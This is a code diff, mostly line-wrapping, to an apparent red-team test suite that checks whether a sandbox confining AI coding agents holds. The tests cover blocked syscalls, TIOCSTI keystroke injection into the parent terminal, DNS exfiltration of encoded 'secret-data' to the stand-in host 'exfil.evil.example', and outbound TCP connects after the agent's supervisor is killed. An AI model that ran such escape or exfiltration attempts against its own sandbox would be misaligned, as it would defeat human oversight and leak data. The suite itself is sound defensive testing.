@@ -52,7 +52,13 @@ async function syscallDenied(env: RedteamEnv, probeArgs: string[]): Promise<Outc
   return { blocked: !!r && !r.ok && r.errno === EPERM, detail: r ? (r.ok ? 'succeeded' : `failed: ${r.err}`) : 'no result' };
 }
 
-async function confinedProbe(env: RedteamEnv, attempt: string, arg?: string, profile?: string, agent?: 'coder' | 'native'): Promise<Outcome> {
+async function confinedProbe(
+  env: RedteamEnv,
+  attempt: string,
+  arg?: string,
+  profile?: string,
+  agent?: 'coder' | 'native',
+): Promise<Outcome> {
   const r = await env.runConfined([env.escapeProbe, attempt, ...(arg ? [arg] : [])], profile, agent);
   const line = r.stdout.trim().split('\n').at(-1) ?? '';
   let parsed: { ok: boolean; error: string } | null = null;
@@ -75,12 +81,26 @@ async function terminalInjection(env: RedteamEnv): Promise<Outcome> {
   const details: string[] = [];
   let blocked = true;
   for (const attempt of ['tiocsti', 'tiocsti_hibits']) {
-    const r = await runInPty([process.execPath, CLI, 'run', '--socket', env.adminSocket, '--agent', 'coder', '--', env.escapeProbe, attempt, command]);
+    const r = await runInPty([
+      process.execPath,
+      CLI,
+      'run',
+      '--socket',
+      env.adminSocket,
+      '--agent',
+      'coder',
+      '--',
+      env.escapeProbe,
+      attempt,
+      command,
+    ]);
     const probe = new RegExp(`\\{"attempt":"${attempt}","ok":(true|false),"errno":\\d+,"error":"([^"]*)"\\}`).exec(r.output);
     const failed = probe?.[1] === 'false';
     if (!failed || r.typed !== '') blocked = false;
     const ioctl = probe ? (failed ? `failed: ${probe[2]}` : 'succeeded') : `no result: ${r.output.trim().slice(-200)}`;
-    details.push(`${attempt}: ${r.typed ? `the shell would run ${JSON.stringify(r.typed.trim())}` : 'nothing reached the shell'}, ioctl ${ioctl}`);
+    details.push(
+      `${attempt}: ${r.typed ? `the shell would run ${JSON.stringify(r.typed.trim())}` : 'nothing reached the shell'}, ioctl ${ioctl}`,
+    );
   }
   return { blocked, detail: details.join('; ') };
 }
@@ -139,7 +159,10 @@ export const ATTEMPTS: Attempt[] = [
       const answer = await env.dnsQueryInAgent('c2VjcmV0LWRhdGE.exfil.evil.example', env.exfil.host4);
       await env.sleep(200);
       const reached = env.exfil.received('dns') - before;
-      return { blocked: reached === 0 && answer !== 'NOERROR', detail: `attacker resolver got ${reached} queries; the agent got ${answer}` };
+      return {
+        blocked: reached === 0 && answer !== 'NOERROR',
+        detail: `attacker resolver got ${reached} queries; the agent got ${answer}`,
+      };
     },
   },
   {
@@ -301,7 +324,9 @@ export const ATTEMPTS: Attempt[] = [
       const after = await exfil(env, ['connect', env.exfil.host4, String(env.exfil.tcpPort)], 'tcp');
       return {
         blocked: !!r?.ok && after.blocked && env.exfil.received('tcp') === before,
-        detail: r?.ok ? `EPERM ${Date.now() - killedAt} ms after SIGKILL (TTL ${env.heartbeatTtlMs} ms); ${after.detail}` : `connects still allowed 3 s after SIGKILL: ${r?.err ?? 'no result'}`,
+        detail: r?.ok
+          ? `EPERM ${Date.now() - killedAt} ms after SIGKILL (TTL ${env.heartbeatTtlMs} ms); ${after.detail}`
+          : `connects still allowed 3 s after SIGKILL: ${r?.err ?? 'no result'}`,
       };
     },
   },
@@ -309,6 +334,7 @@ export const ATTEMPTS: Attempt[] = [
 
 /** Why a pass of `a` is a gap of this kernel rather than a failure (its layer is missing here), or null. */
 export function kernelGap(a: Attempt, env: Pick<RedteamEnv, 'landlockAbi'>): string | null {
-  if (a.minLandlockAbi !== undefined && env.landlockAbi < a.minLandlockAbi) return `this kernel's Landlock ABI ${env.landlockAbi} < ${a.minLandlockAbi}: the ${a.layer} layer cannot block it here`;
+  if (a.minLandlockAbi !== undefined && env.landlockAbi < a.minLandlockAbi)
+    return `this kernel's Landlock ABI ${env.landlockAbi} < ${a.minLandlockAbi}: the ${a.layer} layer cannot block it here`;
   return null;
 }
